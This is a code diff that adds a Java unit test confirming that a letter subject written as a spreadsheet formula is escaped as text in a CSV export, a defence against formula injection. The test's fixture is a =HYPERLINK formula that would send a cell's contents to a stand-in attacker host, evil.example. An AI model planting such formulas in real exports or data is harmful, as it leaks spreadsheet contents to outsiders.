@@ -91,6 +91,19 @@ class LetterReportTest {
         assertThat(api.get("cso-b", "/api/letters/calendar.ics").raw()).doesNotContain(waiting);
     }
 
+    @Test
+    void aSubjectWrittenAsAFormulaStaysTextInTheExport() {
+        String bodyId = body("Ministry of sport " + UUID.randomUUID());
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")";
+        String letter = sentAndRegistered(bodyId, formula, "2026-03-05");
+
+        String csv = api.get("staff", "/api/letters/export.csv").raw();
+
+        String row = csv.lines().filter(line -> line.startsWith(letter)).findFirst().orElseThrow();
+        // A spreadsheet runs a cell starting with '=' as a formula; the apostrophe keeps it text.
+        assertThat(row).contains(",\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
+    }
+
     /** The letters below were written and answered by 20 April 2026, whatever today is on the machine running the test. */
     @BeforeEach
     void onTwentiethOfApril2026() {
